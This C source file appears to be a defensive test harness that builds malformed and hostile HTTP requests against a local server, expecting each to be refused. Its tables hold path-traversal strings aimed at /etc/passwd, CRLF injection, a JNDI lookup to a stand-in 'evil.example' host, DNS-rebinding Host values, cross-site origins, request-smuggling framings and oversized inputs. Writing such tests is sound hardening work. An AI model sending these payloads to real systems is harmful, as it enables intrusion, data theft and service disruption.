/*
 * requests: see requests.h.
 *
 * Idea:  a table for each part of a request that can be wrong, laid into a request that is right
 *        otherwise, so that the one reason to refuse it is what is wrong with it.
 */
#include "requests.h"

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))
#define HOST "Host: localhost\r\n"
#define JSON "Content-Type: application/json\r\n"

struct sender {
	void (*each)(void *self, const struct hostile_request *request);
	void *self;
	unsigned sent;
	enum request_end end;
	bool half_closed, head_only;
};

static void send_bytes(struct sender *sender, const char *name, const char *bytes, size_t count)
{
	const struct hostile_request request = {.name = name,
						.bytes = bytes,
						.count = count,
						.end = sender->end,
						.half_closed = sender->half_closed,
						.head_only = sender->head_only};

	sender->each(sender->self, &request);
	sender->sent++;
}

__attribute__((format(printf, 3, 4))) static void send_text(struct sender *sender, const char *name,
							    const char *format, ...)
{
	char *text;
	va_list arguments;

	va_start(arguments, format);
	int count = vasprintf(&text, format, arguments);
	va_end(arguments);
	if (count < 0)
		exit(1);
	send_bytes(sender, name, text, (size_t)count);
	free(text);
}

/* `count` times the same character; to be freed. */
static char *many(char what, size_t count)
{
	char *text = malloc(count + 1);

	if (!text)
		exit(1);
	memset(text, what, count);
	text[count] = '\0';
	return text;
}

/* What is no request line, or a line with something in it that no line has. */
static void send_lines(struct sender *sender)
{
	static const char *const lines[] = {
		"GET /",
		"GET  ",
		"/ HTTP/1.1",
		"GET / HTTP/",
		"GET / HTTP/1",
		"GET / HTTP/1.1x",
		"GET / HTTP/11.1",
		"GET / HTTP/1.11",
		"GET / HTTP/-1.1",
		"GET / http/1.1",
		"GET / HTTQ/1.1",
		"GET / / HTTP/1.1",
		"GET /a b HTTP/1.1",
		"GET /\tHTTP/1.1",
		"GET\t/ HTTP/1.1",
		"GET /\x01 HTTP/1.1",
		"GET /\x7f HTTP/1.1",
		"GET /\x80 HTTP/1.1",
		"GET /\xc3\x28 HTTP/1.1",
		"GET /\xed\xa0\x80 HTTP/1.1",
		"GET relative HTTP/1.1",
		"GET * HTTP/1.1",
		"GET localhost:80 HTTP/1.1",
		"GET http://localhost/ HTTP/1.1",
		"GET https://evil.example/ HTTP/1.1",
		"GET file:///etc/passwd HTTP/1.1",
		"get / HTTP/1.1",
		"Get / HTTP/1.1",
		"GETT / HTTP/1.1",
		"G(T / HTTP/1.1",
		"\"GET\" / HTTP/1.1",
	};
	static const char *const others[] = {"GET / HTTP/2.0", "GET / HTTP/0.9", "GET / HTTP/3.0",
					     "PRI * HTTP/2.0"};
	static const char *const methods[] = {"PUT",      "PATCH",     "OPTIONS", "TRACE",
					      "CONNECT",  "PROPFIND",  "MKCOL",   "PROPPATCH",
					      "LOCK",     "UNLOCK",    "COPY",    "MOVE",
					      "SEARCH",   "DEBUG",     "TRACK",   "BREW",
					      "QUERY",    "PURGE",     "LINK",    "REPORT",
					      "M-SEARCH", "SUBSCRIBE", "NOTIFY"};

	for (size_t i = 0; i < COUNT(lines); i++)
		send_text(sender, lines[i], "%s\r\n" HOST "\r\n", lines[i]);
	for (size_t i = 0; i < COUNT(methods); i++)
		send_text(sender, methods[i], "%s / HTTP/1.1\r\n" HOST "\r\n", methods[i]);
	sender->end = REQUEST_OLD;
	for (size_t i = 0; i < COUNT(others); i++)
		send_text(sender, others[i], "%s\r\n" HOST "\r\n", others[i]);
	sender->end = REQUEST_REFUSED;
	send_bytes(sender, "a NUL in the target", "GET /\0x HTTP/1.1\r\n" HOST "\r\n",
		   sizeof("GET /\0x HTTP/1.1\r\n" HOST "\r\n") - 1);
	send_bytes(sender, "a NUL in the method", "G\0T / HTTP/1.1\r\n" HOST "\r\n",
		   sizeof("G\0T / HTTP/1.1\r\n" HOST "\r\n") - 1);
}

static const char *const targets[] = {
	"/../etc/passwd",
	"/../../../../../../etc/passwd",
	"/..",
	"/.",
	"/./",
	"/a/../b",
	"/a/./b",
	"/..%2fetc",
	"/%2e%2e/etc",
	"/.%2e/etc",
	"/%2E%2E/%2E%2E/etc/passwd",
	"/%252e%252e/etc/passwd",
	"/assets/../../etc/passwd",
	"/assets/%2e%2e/%2e%2e/etc/passwd",
	"/assets/..%2f..%2fetc/passwd",
	"/assets/..;/x",
	"/assets/..\\..\\x",
	"/assets/%5c..%5cx",
	"/assets//app.js",
	"/%00",
	"/index.html%00.js",
	"/assets/app.js%00",
	"/assets/app.js%20",
	"/assets/app.js;x=1",
	"/assets/app.js/",
	"/assets/app.js/x",
	"/assets",
	"/assets/",
	"/assets/vendor",
	"/assets/vendor/",
	"/assets/index.html",
	"/index.html",
	"/%",
	"/%4",
	"/%zz",
	"/%u0041",
	"/a%0d%0aSet-Cookie:%20x=1",
	"/a%0aX:%20y",
	"/%7f",
	"/%c0%ae%c0%ae/etc",
	"/%c0%af",
	"/%ff",
	"/%ed%a0%80",
	"/%f4%90%80%80",
	"/%f8%88%80%80%80",
	"/%e2%82",
	"//",
	"//evil.example/",
	"///",
	"/#fragment",
	"/?a=%00",
	"/?a=%zz",
	"/?a=1&a=2",
	"/?%ff=1",
	"/?a=%0d%0a",
	"/?a#b",
	"/api",
	"/api/",
	"/api/v1",
	"/api/v1/",
	"/api//v1/session",
	"/api/v1/session/",
	"/api/v1/session/x",
	"/api/v1/../v1/session",
	"/api/v1/%2e%2e/v1/session",
	"/api/v1/session%00",
	"/api/v1/session?a=1&a=1",
	"/api/v2/session",
	"/API/v1/session",
	"/api/v1/anomalies/%2e%2e",
	"/api/v1/anomalies/a%2fb",
	"/api/v1/events?topics=all",
	"/api/v1/events?topics=anomalies,,",
	"/api/v1/events?topics=,",
	"/api/v1/events?last_id=-1",
	"/api/v1/events?last_id=x",
	"/api/v1/events?last_id=99999999999999999999999",
	"/-/",
	"/-/metrics",
	"/-/healthy/",
	"/.git/config",
	"/.env",
	"/wp-login.php",
	"/etc/passwd",
	"/proc/self/environ",
	"/cgi-bin/.%2e/.%2e/bin/sh",
	"/anomalies/",
	"/anomalies/a/b",
	"/pipeline/x",
	"/favicon.ico/x",
	"/$%7Bjndi:ldap://evil.example/a%7D",
	("/?a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8&i=9&j=1&k=1&l=1&m=1&n=1&o=1&p=1&q=1&r=1&s=1&t=1&u=1&"
	 "v=1&w=1&x=1&y=1&z=1&aa=1&ab=1&ac=1&ad=1&ae=1&af=1&ag=1"),
};

static void send_targets(struct sender *sender)
{
	char *segment = many('a', 300);

	for (size_t i = 0; i < COUNT(targets); i++)
		send_text(sender, targets[i], "GET %s HTTP/1.1\r\n" HOST "\r\n", targets[i]);
	for (size_t i = 0; i < COUNT(targets); i++)
		send_text(sender, targets[i],
			  "POST %s HTTP/1.1\r\n" HOST JSON "Content-Length: 2\r\n\r\n{}",
			  targets[i]);
	sender->head_only = true;
	for (size_t i = 0; i < COUNT(targets); i += 4)
		send_text(sender, targets[i], "HEAD %s HTTP/1.1\r\n" HOST "\r\n", targets[i]);
	sender->head_only = false;
	send_text(sender, "a long segment", "GET /anomalies/%s HTTP/1.1\r\n" HOST "\r\n", segment);
	free(segment);
}

/* Other names: of sites that point here (DNS rebinding), of nobody. */
static void send_hosts(struct sender *sender)
{
	static const char *const hosts[] = {
		"",
		"Host:\r\n",
		"Host: \r\n",
		"Host: evil.example\r\n",
		"Host: evil.example:8474\r\n",
		"Host: localhost.evil.example\r\n",
		"Host: evil-localhost\r\n",
		"Host: 127.0.0.1.evil.example\r\n",
		"Host: 127.0.0.2\r\n",
		"Host: 0.0.0.0\r\n",
		"Host: 2130706433\r\n",
		"Host: 0x7f000001\r\n",
		"Host: 0177.0.0.1\r\n",
		"Host: [::2]\r\n",
		"Host: [::1\r\n",
		"Host: [::1]x\r\n",
		"Host: [\r\n",
		"Host: ::1\r\n",
		"Host: :80\r\n",
		"Host: localhost:\r\n",
		"Host: localhost:x\r\n",
		"Host: localhost:999999\r\n",
		"Host: localhost:80:80\r\n",
		"Host: localhost, evil.example\r\n",
		"Host: localhost evil.example\r\n",
		"Host: evil.example@localhost\r\n",
		"Host: localhost@evil.example\r\n",
		"Host: localhost/\r\n",
		"Host: http://localhost\r\n",
		"Host: localhost.\r\n",
		"Host: localhost\\\r\n",
		"Host: %6cocalhost\r\n",
		("Host: l\xc3\xb6"
		 "calhost\r\n"),
		"Host: localhost\x01\r\n",
		HOST HOST,
		HOST "Host: evil.example\r\n",
		"Host: evil.example\r\n" HOST,
		"Host : localhost\r\n",
	};

	for (size_t i = 0; i < COUNT(hosts); i++) {
		send_text(sender, hosts[i], "GET / HTTP/1.1\r\n%s\r\n", hosts[i]);
		send_text(sender, hosts[i], "GET /api/v1/session HTTP/1.1\r\n%s\r\n", hosts[i]);
	}
	send_text(sender, "no Host in HTTP/1.0", "GET / HTTP/1.0\r\n\r\n");
}

/* What pages of other sites can make a browser say. */
static void send_sites(struct sender *sender)
{
	static const char *const origins[] = {
		"Origin: null\r\n",
		"Origin: \r\n",
		"Origin: https://evil.example\r\n",
		"Origin: http://localhost.evil.example\r\n",
		"Origin: http://localhost:1\r\n",
		"Origin: http://localhost/\r\n",
		"Origin: http://evil.example@localhost\r\n",
		"Origin: localhost\r\n",
		"Origin: ftp://localhost\r\n",
		"Origin: chrome-extension://abc\r\n",
		"Origin: http://localhost\r\nOrigin: https://evil.example\r\n",
		"Sec-Fetch-Site: cross-site\r\n",
		"Sec-Fetch-Site: same-site\r\n",
		"Sec-Fetch-Site: \r\n",
		"Origin: http://localhost\r\nSec-Fetch-Site: cross-site\r\n",
	};
	static const char *const types[] = {
		"",
		"Content-Type: text/plain\r\n",
		"Content-Type: application/x-www-form-urlencoded\r\n",
		"Content-Type: multipart/form-data; boundary=x\r\n",
		"Content-Type: application/jsonx\r\n",
		"Content-Type: text/plain; application/json\r\n",
		JSON JSON,
	};

	for (size_t i = 0; i < COUNT(origins); i++)
		send_text(sender, origins[i],
			  "POST /api/v1/mutes HTTP/1.1\r\n" HOST JSON
			  "%sContent-Length: 2\r\n\r\n{}",
			  origins[i]);
	for (size_t i = 0; i < COUNT(origins); i++)
		send_text(sender, origins[i], "DELETE /api/v1/mutes/1 HTTP/1.1\r\n" HOST "%s\r\n",
			  origins[i]);
	for (size_t i = COUNT(origins) - 4; i < COUNT(origins); i++)
		send_text(sender, origins[i], "GET /api/v1/session HTTP/1.1\r\n" HOST "%s\r\n",
			  origins[i]);
	for (size_t i = 0; i < COUNT(types); i++)
		send_text(sender, types[i],
			  "POST /api/v1/mutes HTTP/1.1\r\n" HOST "%sContent-Length: 2\r\n\r\n{}",
			  types[i]);
}

/* A body whose end is in two places, either of which fits: nothing else is wrong with it. */
static void send_two_ends(struct sender *sender)
{
	static const char *const framings[] = {
		"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n",
		"Transfer-Encoding: chunked\r\nContent-Length: 2\r\n",
	};

	for (size_t i = 0; i < COUNT(framings); i++)
		send_text(sender, framings[i],
			  "POST /api/v1/csp HTTP/1.1\r\n" HOST JSON
			  "%s\r\n2\r\n{}\r\n0\r\n\r\n"
			  "GET /-/healthy HTTP/1.1\r\n" HOST "\r\n",
			  framings[i]);
}

/* A body whose end is in two places, or in none. What follows it must not be a request. */
static void send_framings(struct sender *sender)
{
	static const char *const framings[] = {
		"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n",
		"Transfer-Encoding: chunked\r\nContent-Length: 2\r\n",
		"Content-Length: 2\r\nContent-Length: 2\r\n",
		"Content-Length: 2\r\nContent-Length: 40\r\n",
		"Content-Length: 9223372036854775807\r\n",
		"Content-Length: 70000\r\n",
		"Content-Length : 2\r\n",
		"Transfer-Encoding: gzip\r\n",
		"Transfer-Encoding: identity\r\n",
		"Transfer-Encoding: gzip, chunked\r\n",
		"Transfer-Encoding: chunked, identity\r\n",
		"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
		"Transfer-Encoding: xchunked\r\n",
		"Transfer-Encoding: chunked;q=1\r\n",
		"Transfer-Encoding: \"chunked\"\r\n",
		("Transfer-Encoding: \x0b"
		 "chunked\r\n"),
		"Transfer-Encoding : chunked\r\n",
		"Transfer-Encoding:\r\n",
	};
	static const char *const lengths[] = {
		"-1",
		"+2",
		"2,2",
		"0x2",
		"2e0",
		"2 2",
		"two",
		"",
		"18446744073709551615",
		"18446744073709551618",
		"99999999999999999999999",
		"\"2\"",
		"2;",
		"2\t2",
	};
	static const char *const chunks[] = {
		"zz\r\n{}\r\n0\r\n\r\n",    "-2\r\n{}\r\n0\r\n\r\n",
		"0x2\r\n{}\r\n0\r\n\r\n",   "ffffffffffffffffff\r\n{}\r\n0\r\n\r\n",
		"2\r\n{}xx0\r\n\r\n",       "2\r\n{}x\r\n0\r\n\r\n",
		"\r\n2\r\n{}\r\n0\r\n\r\n", " 2\r\n{}\r\n0\r\n\r\n",
		"2 3\r\n{}\r\n0\r\n\r\n",   "2\r\n{x\r\n0\r\n\r\n",
	};

	for (size_t i = 0; i < COUNT(framings); i++)
		send_text(sender, framings[i],
			  "POST /api/v1/mutes HTTP/1.1\r\n" HOST JSON
			  "%s\r\n{}GET /-/healthy HTTP/1.1\r\n" HOST "\r\n",
			  framings[i]);
	sender->end = REQUEST_TWICE;
	for (size_t i = 0; i < COUNT(lengths); i++)
		send_text(sender, lengths[i],
			  "POST /api/v1/mutes HTTP/1.1\r\n" HOST JSON
			  "Content-Length: %s\r\n\r\n{}GET /-/healthy HTTP/1.1\r\n" HOST "\r\n",
			  lengths[i]);
	sender->end = REQUEST_REFUSED;
	for (size_t i = 0; i < COUNT(chunks); i++)
		send_text(sender, chunks[i],
			  "POST /api/v1/mutes HTTP/1.1\r\n" HOST JSON
			  "Transfer-Encoding: chunked\r\n\r\n%s",
			  chunks[i]);
}

static void send_heads(struct sender *sender)
{
	static const char *const headers[] = {
		"NoColon\r\n",
		": nameless\r\n",
		"X Y: 1\r\n",
		"X\t: 1\r\n",
		"X\x01: 1\r\n",
		"X: \x01\r\n",
		"X: a\x7f\r\n",
		"X\xc3\xa9: 1\r\n",
		"X(1): 1\r\n",
		"X[]: 1\r\n",
		"\"X\": 1\r\n",
		"X{}: 1\r\n",
		"X: 1\r\nnothing\r\nY: 2\r\n",
	};
	static const size_t sizes[] = {8200, 9000, 20000, 100000, 1000000};

	for (size_t i = 0; i < COUNT(headers); i++)
		send_text(sender, headers[i], "GET / HTTP/1.1\r\n" HOST "%s\r\n", headers[i]);
	for (size_t i = 0; i < COUNT(sizes); i++) {
		char *value = many('a', sizes[i]);
		/* Of a megabyte the console reads no more than it can hold: the rest meets a
		 * closed door, and may take the answer with it. */
		sender->end = sizes[i] > 10000 ? REQUEST_DROPPED : REQUEST_REFUSED;
		send_text(sender, "a giant header", "GET / HTTP/1.1\r\n" HOST "X: %s\r\n\r\n",
			  value);
		send_text(sender, "a giant target", "GET /%s HTTP/1.1\r\n" HOST "\r\n", value);
		send_text(sender, "a giant query", "GET /?q=%s HTTP/1.1\r\n" HOST "\r\n", value);
		send_text(sender, "a giant method", "%s / HTTP/1.1\r\n" HOST "\r\n", value);
		send_text(sender, "a giant name", "GET / HTTP/1.1\r\n" HOST "%s: 1\r\n\r\n", value);
		send_text(sender, "a giant Host", "GET / HTTP/1.1\r\nHost: %s\r\n\r\n", value);
		free(value);
	}
	for (unsigned lines = 300; lines <= 30000; lines *= 10) {
		char *text = malloc(lines * 12 + 100), *at = text;
		if (!text)
			exit(1);
		at += sprintf(at, "GET / HTTP/1.1\r\n" HOST);
		for (unsigned i = 0; i < lines; i++)
			at += sprintf(at, "X%u: 1\r\n", i);
		sprintf(at, "\r\n");
		sender->end = lines > 1000 ? REQUEST_DROPPED : REQUEST_REFUSED;
		send_text(sender, "many headers", "%s", text);
		free(text);
	}
	sender->end = REQUEST_REFUSED;
}

static void send_bodies(struct sender *sender)
{
	static const char *const bodies[] = {
		"{",
		"}",
		"[]",
		"1",
		"null",
		"true",
		"\"text\"",
		"{\"a\":1,\"a\":2}",
		"{\"a\":1}{\"b\":2}",
		"{\"a\":1} x",
		"{'a':1}",
		"{\"a\":}",
		"{\"a\":1e999}",
		"{\"a\":99999999999999999999}",
		"{\"a\":\"\\u0000\"}",
		"{\"a\":\"\\ud800\"}",
		"{\"a\":\"\x01\"}",
		"{\"a\":\"\xff\"}",
		"{\"a\":\"\xc0\xaf\"}",
		"\xef\xbb\xbf{}",
		"a=1&b=2",
		"<a/>",
		("{\"author\":\"0123456789012345678901234567890123456789012345678901234567890123"
		 "456789\"}"),
		"{\"author\":\"a\\nb\"}",
	};
	char *deep = many('[', 30000), *objects = many('a', 5 * 5000);
	char *large = many(' ', 66000), *larger = many(' ', 300000);

	for (size_t i = 0; i < COUNT(bodies); i++)
		send_text(sender, bodies[i],
			  "POST /api/v1/mutes HTTP/1.1\r\n" HOST JSON
			  "Content-Length: %zu\r\n\r\n%s",
			  strlen(bodies[i]), bodies[i]);
	for (size_t i = 0; i < 5000; i++)
		memcpy(objects + 5 * i, "{\"a\":", 5);
	send_text(sender, "deep arrays",
		  "POST /api/v1/mutes HTTP/1.1\r\n" HOST JSON "Content-Length: 30000\r\n\r\n%s",
		  deep);
	send_text(sender, "deep objects",
		  "POST /api/v1/mutes HTTP/1.1\r\n" HOST JSON "Content-Length: %zu\r\n\r\n%s",
		  strlen(objects), objects);
	send_text(sender, "a large body",
		  "POST /api/v1/mutes HTTP/1.1\r\n" HOST JSON
		  "Transfer-Encoding: chunked\r\n\r\n%zx\r\n%s\r\n0\r\n\r\n",
		  strlen(large), large);
	send_text(sender, "a larger body",
		  "POST /api/v1/mutes HTTP/1.1\r\n" HOST JSON
		  "Transfer-Encoding: chunked\r\n\r\n%zx\r\n%s\r\n0\r\n\r\n",
		  strlen(larger), larger);
	send_text(sender, "GET with a body",
		  "GET / HTTP/1.1\r\n" HOST "Content-Length: 2\r\n\r\n{}");
	send_text(sender, "DELETE with a body",
		  "DELETE /api/v1/mutes/1 HTTP/1.1\r\n" HOST "Content-Length: 2\r\n\r\n{}");
	sender->end = REQUEST_DROPPED;
	send_text(sender, "a body that is too long to hear out",
		  "POST /api/v1/mutes HTTP/1.1\r\n" HOST JSON "Content-Length: 300000\r\n\r\n%s",
		  larger);
	sender->end = REQUEST_REFUSED;
	free(deep);
	free(objects);
	free(large);
	free(larger);
}

/* No HTTP at all. */
static void send_others(struct sender *sender)
{
	static const char *const others[] = {"GET\r\n" HOST "\r\n",
					     "SSH-2.0-OpenSSH_9.2\r\n",
					     "*1\r\n$4\r\nPING\r\n",
					     "EHLO evil.example\r\n",
					     "PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n",
					     ""};

	sender->end = REQUEST_DROPPED;
	sender->half_closed = true;
	for (size_t i = 0; i < COUNT(others); i++)
		send_text(sender, others[i], "%s", others[i]);
	sender->half_closed = false;
	sender->end = REQUEST_REFUSED;
}

unsigned requests_each(void (*each)(void *self, const struct hostile_request *request), void *self)
{
	struct sender sender = {.each = each, .self = self};

	send_lines(&sender);
	send_targets(&sender);
	send_hosts(&sender);
	send_sites(&sender);
	send_framings(&sender);
	send_two_ends(&sender);
	send_heads(&sender);
	send_bodies(&sender);
	send_others(&sender);
	return sender.sent;
}
